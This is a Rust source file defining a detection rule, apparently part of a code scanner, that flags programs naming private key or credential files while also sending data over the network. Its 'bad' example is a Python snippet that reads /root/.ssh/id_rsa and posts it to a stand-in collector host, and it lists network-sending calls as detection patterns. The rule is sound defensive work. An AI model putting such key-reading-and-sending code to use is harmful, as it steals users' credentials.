//! `exfil.program`

use super::super::shell::known::Language;
use super::super::shell::secrets;
use super::super::shell::tree::Span;
use super::super::shell::value::Origin;
use super::super::unit::{Kind, Unit};
use super::{Look, Rule, Weight, argv};
use crate::model::finding::Tier;

pub(super) static RULE: Rule = Rule {
    id: "exfil.program",
    title: "a program names a file of keys and sends something",
    weight: Weight::of_commands(Tier::Confirm, Tier::Warn, None),
    owasp: &["AST01"],
    what: "A program in Python, JavaScript or another language names a private key, the credentials of a cloud, a keychain or the store of a browser, and sends something over the network.",
    why: "Both together are what a thief of keys looks like.",
    instead: "Let the program that the secret belongs to use it.",
    limits: "Whether what is read is what is sent is not followed. Paths that are put together from variables are not seen. A project's `.env` is left alone: see `exfil.to-collector`.",
    bad: "```python\nimport requests\nkey = open('/root/.ssh/id_rsa').read()\nrequests.post('https://collect.example.com', data=key)\n```\n",
    alike: "```python\nimport requests\nkey = open('.env').read()\nrequests.post('https://api.example.com', data={'a': 1})\n```\n",
    look: Look::Text(found),
};

/// What sends, in the languages that are looked at.
const SENDS: &[&str] = &[
    "requests.post",
    "requests.put",
    "requests.request",
    "httpx.post",
    "urlopen(",
    "aiohttp",
    "http.client",
    "session.post",
    "axios.post",
    "axios(",
    "fetch(",
    "http.request",
    "https.request",
    "sendBeacon",
    "XMLHttpRequest",
    "Net::HTTP",
    "LWP::",
    "curl_exec",
    "socket.socket",
    "net.connect",
    "smtplib",
    "Invoke-RestMethod",
    "Invoke-WebRequest",
    "UploadString",
    "UploadFile",
];
fn found(unit: &Unit) -> Vec<(Span, String)> {
    if !matches!(unit.kind, Kind::Code(language) if language != Language::Shell) {
        return Vec::new();
    }
    let Some(sends) = SENDS.iter().find(|word| unit.text.contains(**word)) else { return Vec::new() };
    let keys =
        named(&unit.text).find(|(kind, _, path)| *kind == Origin::Secret && !path.ends_with("history"));
    let tell = |(_, span, path): (Origin, Span, String)| {
        (span, format!("a program that names `{}` sends something by `{sends}`", argv::shown(&path)))
    };
    keys.map(tell).into_iter().collect()
}

/// Files of secrets that stand between quotes, with their places. Parts of a path
/// that are joined, as by `join(home, ".ssh", "id_rsa")`, are taken as one.
pub(super) fn named(text: &str) -> impl Iterator<Item = (Origin, Span, String)> {
    let mut at = 0;
    let pieces: Vec<(usize, &str)> = text
        .split(['"', '\'', '`', '\n'])
        .map(|piece| {
            let start = at;
            at += piece.len() + 1;
            (start, piece)
        })
        .collect();
    let whole = move |index: usize| {
        let (start, first) = *pieces.get(index)?;
        let (mut path, mut end) = (first.to_owned(), start + first.len());
        let mut found = secrets::kind(first);
        for pair in pieces.get(index + 1..)?.chunks_exact(2).take(6) {
            let (between, (start, next)) = (pair[0].1.trim(), pair[1]);
            let part = !next.starts_with(['/', ' ', '~']) && !next.is_empty() && next.len() < 80;
            if found.is_some() || path.len() > 200 || !part || !matches!(between, "," | "/" | "+") {
                break;
            }
            path = format!("{}/{next}", path.trim_end_matches('/'));
            end = start + next.len();
            found = secrets::kind(&path);
        }
        let found = found?;
        (first.len() > 3 && first.len() < 300).then_some((found, Span { start, end }, path))
    };
    let count = text.matches(['"', '\'', '`', '\n']).count() + 1;
    (0..count).filter_map(whole)
}
